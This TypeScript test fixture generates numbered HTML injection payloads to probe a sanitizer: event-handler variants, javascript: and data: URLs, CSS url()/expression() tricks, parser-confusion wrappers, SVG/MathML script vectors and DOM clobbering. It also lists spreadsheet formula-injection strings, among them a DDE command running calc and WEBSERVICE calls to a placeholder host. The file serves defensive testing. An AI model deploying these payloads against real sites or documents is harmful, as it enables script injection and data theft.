/*
 * Pieces of HTML that would run, fetch or restyle something where a program puts them into a page
 * unread. Made by a grammar of our own of the ways that are publicly known; each carries its
 * number, so that what got through can be named. None of them names a real place.
 */

export interface Injection {
  readonly family: string
  /** As somebody would put it on a clipboard, into a file or into a change. */
  readonly html: string
}

/** Where everything that would be fetched is said to lie. */
export const planted = 'https://planted.invalid'

/** Stand for the code that would run, and for the address of what would be fetched. */
const code = '⟪code⟫'
const address = '⟪address⟫'

const handlers = (
  'error load click mouseover mouseenter pointerover pointerenter focus focusin blur toggle ' +
  'beforetoggle animationstart animationend transitionend transitionrun wheel scroll scrollend ' +
  'copy cut paste beforeinput input change invalid reset submit select drag dragenter drop ' +
  'keydown contextmenu begin end repeat start finish bounce pageshow hashchange message ' +
  'beforeprint afterprint resize play canplay loadstart securitypolicyviolation'
).split(' ')
const bearers = [
  ['img', 'src=x'],
  ['svg', ''],
  ['body', ''],
  ['details', 'open'],
  ['input', 'autofocus'],
  ['video', 'src=x autoplay'],
  ['marquee', ''],
  ['div', 'tabindex=1 contenteditable style="animation:x 1s"'],
] as const
const spellings: readonly ((name: string) => string)[] = [
  (name) => ` on${name}=${code}`,
  (name) => ` oN${name.toUpperCase()} = "${code}"`,
  (name) => `/on${name}='${code}'`,
  (name) => `\n\ton${name}\f=\n"${code}"`,
  (name) => ` a="b"on${name}="${code}"`,
  (name) => ` on${name}="&#106;&#x61;vascript:${code}"`,
  (name) => ` \u0000on${name}="${code}"`,
  (name) => ` x=\`\`on${name}=\`${code}\``,
]

const schemes: readonly string[] = [
  `javascript:${code}`,
  `JaVaScRiPt:${code}`,
  `java\tscript:${code}`,
  `java\nscript:${code}`,
  `java\rscript\n:${code}`,
  `  javascript:${code}`,
  `\u0001javascript:${code}`,
  `\u00A0javascript:${code}`,
  `\uFEFFjavascript:${code}`,
  `java\u0000script:${code}`,
  `java&#x0A;script&colon;${code}`,
  `java&Tab;script:${code}`,
  `&#0000106&#0000097vascript:${code}`,
  `javascript://planted.invalid/%0A${code}`,
  `vbscript:${code}`,
  `v\tb\nscript:${code}`,
  `data:text/html,<script>${code}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${code}'/>`,
  `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${code}</script>`,
  `feed:javascript:${code}`,
  `view-source:${address}`,
  `blob:${address}`,
  `filesystem:${address}`,
  `//planted.invalid/⟪number⟫`,
  address,
]
const holders: readonly ((value: string) => string)[] = [
  (value) => `<a href="${value}">文字</a>`,
  (value) => `<map><area href="${value}" ping="${address}"></map>`,
  (value) => `<form action="${value}"><button>发送</button></form>`,
  (value) => `<button formaction="${value}" form=x>发送</button>`,
  (value) => `<input type=image src="${value}" formaction="${value}">`,
  (value) => `<iframe src="${value}"></iframe>`,
  (value) => `<iframe srcdoc="<a href='${value.replaceAll("'", '’')}'>"></iframe>`,
  (value) => `<embed src="${value}">`,
  (value) => `<object data="${value}"><param name=movie value="${value}"></object>`,
  (value) => `<svg><a xlink:href="${value}" href="${value}"><text y=9>字</text></a></svg>`,
  (value) => `<svg><use href="${value}#x"/><image href="${value}"/></svg>`,
  (value) => `<math href="${value}"><mi xlink:href="${value}">x</mi></math>`,
  (value) => `<base href="${value}"><a href=x>字</a>`,
  (value) => `<meta http-equiv=refresh content="0;url=${value}">`,
  (value) => `<link rel=stylesheet href="${value}"><link rel=import href="${value}">`,
  (value) => `<script src="${value}"></script>`,
  (value) => `<img src="${value}" lowsrc="${value}" dynsrc="${value}">`,
  (value) => `<img srcset="${value} 1x, ${value} 2x"><picture><source srcset="${value}"></picture>`,
  (value) => `<video src="${value}" poster="${value}"><track src="${value}"></video>`,
  (value) => `<table background="${value}"><tr><td background="${value}">格</table>`,
  (value) => `<blockquote cite="${value}"><q cite="${value}">引</q></blockquote>`,
  (value) => `<frameset><frame src="${value}"></frameset>`,
]

const styles: readonly string[] = [
  `background:url(${address})`,
  `background-image:u\\72l('${address}')`,
  `list-style:url("${address}")`,
  `width:expression(${code})`,
  `w\\69dth:exp/**/ression(${code})`,
  `behavior:url(${address})`,
  `-moz-binding:url(${address}#x)`,
  `background:url(javascript:${code})`,
  `content:url(${address});cursor:url(${address}),auto`,
  `mask:url(${address});filter:url(${address}#x);clip-path:url(${address}#x)`,
  `background:image-set("${address}" 1x);border-image:url(${address})`,
  `position:fixed;inset:0;z-index:9999;opacity:0`,
  `@import '${address}'`,
  `src:url(${address});font-family:x`,
]
const styled: readonly ((value: string) => string)[] = [
  (value) => `<p style="${value.replaceAll('"', '&quot;')}">字</p>`,
  (value) => `<style>*{${value}}</style><p>字</p>`,
  (value) => `<style>@import url(${address});p{${value}}</style><p class=x>字</p>`,
  (value) => `<svg><style><![CDATA[*{${value}}]]></style><text>字</text></svg>`,
  (value) => `<span style='${value.replaceAll("'", '&#39;')};mso-list:Ignore'>1.</span>`,
  (value) => `<font style="/*" title="*/${value.replaceAll('"', '&quot;')}">字</font>`,
]

const inner = `<img src="${address}" onerror="${code}">`
/** What is one thing to whoever cleans and another to whoever draws. */
const wrappings: readonly ((content: string) => string)[] = [
  (one) => `<noscript><p title="</noscript>${one.replaceAll('"', "'")}"></noscript>`,
  (one) => `<noembed>${one}</noembed>`,
  (one) => `<noframes>${one}</noframes>${one}`,
  (one) => `<xmp>${one}</xmp><listing>&lt;i&gt;${one}</listing>`,
  (one) => `<title>${one}</title></title>${one}`,
  (one) => `<textarea>${one}</textarea></textarea>${one}`,
  (one) => `<template>${one}<script>${code}</script></template>`,
  (one) => `<template shadowrootmode=open>${one}<slot></slot></template>`,
  (one) => `<svg><foreignObject>${one}</foreignObject></svg>`,
  (one) => `<svg><desc>${one}</desc><title><style>${one}</style></title></svg>`,
  (one) => `<svg></p><style><a id="</style>${one.replaceAll('"', "'")}">`,
  (one) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${one.replaceAll('"', "'")}">`,
  (one) => `<form><math><mtext></form><form><mglyph><style></math>${one}`,
  (one) => `<math><annotation-xml encoding="text/html">${one}</annotation-xml></math>`,
  (one) => `<select><option>${one}</option><style></select>${one}</style></select>`,
  (one) => `<table><tr>${one}<td>${one}<caption>${one}</table>`,
  (one) => `<a><table><a>${one}</table></a>`,
  (one) => `<iframe>${one}</iframe><iframe srcdoc='${one.replaceAll("'", '’')}'></iframe>`,
  (one) => `<!--><${one.slice(1)}-->`,
  (one) => `<!--!>${one}--!>${one}-->`,
  (one) => `<!-- -- --!>${one}<!-- a="-->${one}`,
  (one) => `<![CDATA[${one}]]>${one}`,
  (one) => `<svg><![CDATA[><${one.slice(1)}]]></svg>`,
  (one) => `<?xml-stylesheet href="${address}"?><?php ${one}?>`,
  (one) => `<!DOCTYPE x [<!ENTITY e SYSTEM "${address}">]><p>&e;</p>${one}`,
  (one) => `<p title="${one}">字</p>`,
  (one) => `<p title='">${one}'>字</p>`,
  (one) => `"><'>${one}`,
  (one) => `</p></div></body></html>${one}`,
  (one) => `<${one.slice(1, -1)}`,
  (one) => `<<${one.slice(1)}//<<script>${code}</script>`,
  (one) => `<scr<script>ipt>${code}</scr</script>ipt>${one}`,
  (one) => `&lt;script&gt;${code}&lt;/script&gt;&amp;lt;img onerror=${code}&amp;gt;${one}`,
  (one) => `＜script＞${code}＜/script＞${one}`,
  (one) => `<\u0000script>${code}</\u0000script>${one.replace('img', 'i\u0000mg')}`,
  (one) => `<script\u2028>${code}</script>${one.replace(' ', '\u00A0')}`,
  (one) => `<ſcript>${code}</ſcript><ımg src=x onerror=${code}>${one}`,
  (one) => `\uFEFF+ADw-script+AD4-${code}+ADw-/script+AD4-${one}`,
  (one) => `<p>\uD800${one}\uDFFF</p>`,
  (one) => `<p dir=rtl>\u202E${one}\u202C</p>`,
  (one) => `<x-a is=script>${one}</x-a><custom-element onclick=${code}>${one}</custom-element>`,
  (one) => `<p data-block=section data-level="${code}" onclick="${code}">${one}</p>`,
  (one) =>
    `<p data-block=cell data-table="x'}<" data-row="url(${address})" data-align="left;background:url(${address})">${one}</p>`,
  (one) =>
    `<span data-figure='["img",{"src":"${address}","onerror":"${code}"}]' data-mask='${one.replaceAll("'", '’')}' data-extra='{"style":["script"]}'>${one}</span>`,
  (one) => `<span data-unknown='["script",{"src":"${address}"},"x"]'>${one}</span>`,
  (one) =>
    `<span data-figure="x" data-kind=constructor data-label=__proto__ style=position:fixed>${one}</span>`,
  (one) => `<div contenteditable onbeforeinput=${code}>${one}</div>`,
  (one) =>
    `<p><b onmouseover=${code}>粗</b><strong style="background:url(${address})">体</strong>${one}</p>`,
  (one) => `<dialog open>${one}<form method=dialog></form></dialog><p popover id=x>${one}</p>`,
  (one) =>
    `<a name=document id=cookie><form name=body><input name=innerHTML id=attributes></form>${one}`,
]

const drawings: readonly string[] = [
  `<svg><script>${code}</script></svg>`,
  `<svg><script href="${address}"/></svg>`,
  `<svg><animate attributeName=href values="javascript:${code}" onbegin=${code} /></svg>`,
  `<svg><a><set attributeName=xlink:href to="javascript:${code}" begin=0s /><text>字</text></a></svg>`,
  `<svg><animateMotion onbegin=${code} dur=1s repeatCount=2></svg>`,
  `<svg><handler type="text/javascript" ev:event=load>${code}</handler></svg>`,
  `<svg><filter><feImage href="${address}"/></filter></svg>`,
  `<svg><pattern><image xlink:href="${address}" onload=${code} /></pattern></svg>`,
  `<svg><switch><foreignObject requiredExtensions=x><iframe src="${address}"></foreignObject></switch></svg>`,
  `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${code}"><script>${code}</script></svg>`,
  `<math><maction actiontype="statusline#${address}" xlink:href="javascript:${code}">x</maction></math>`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${code}</script></annotation-xml></semantics></math>`,
  `<math><menclose href="javascript:${code}"><mi>x</mi></menclose></math>`,
  `<math><ms lquote="${address}" style="background:url(${address})">x</ms></math>`,
]

/** All of them, each time the same. */
export function injections(): readonly Injection[] {
  const made: { family: string; html: string }[] = []
  const add = (family: string, html: string): void => void made.push({ family, html })
  for (const [at, name] of handlers.entries()) {
    const [tag, rest] = bearers[at % bearers.length] ?? ['img', '']
    for (const by of [0, 3])
      add(
        'handler',
        `<${tag} ${rest}${spellings[(at + by) % spellings.length]?.(name)}>文字</${tag}>`,
      )
  }
  for (const [tag, rest] of bearers)
    for (const spelling of spellings) add('handler', `<${tag} ${rest}${spelling('error')}>`)
  for (const [at, scheme] of schemes.entries())
    for (const [n, holder] of holders.entries())
      // Each scheme in half of the places, each place with half of the schemes.
      if ((at + n) % 2 === 0 || n === 0) add('address', holder(scheme))
  for (const style of styles) for (const place of styled) add('style', place(style))
  for (const wrapping of wrappings)
    for (const content of [inner, `<script>${code}</script>`, `<svg onload=${code}>`])
      add('parser', wrapping(content))
  for (const drawing of drawings) add('drawing', drawing)
  return made.map(({ family, html }, number) => ({
    family,
    html: html
      .replaceAll(code, `alert(${number})`)
      .replaceAll(address, `${planted}/${number}`)
      .replaceAll('⟪number⟫', String(number)),
  }))
}

/** The beginnings by which a spreadsheet takes a cell for a formula, or a line for one of its own. */
export const formulas: readonly string[] = [
  '=1+1',
  `=HYPERLINK("${planted}/x","点")`,
  `=WEBSERVICE("${planted}/x")`,
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  `=IMPORTXML("${planted}/x","//a")`,
  "'=1+1",
  '"=1+1',
  ';=1+1',
  '%0A=1+1',
]
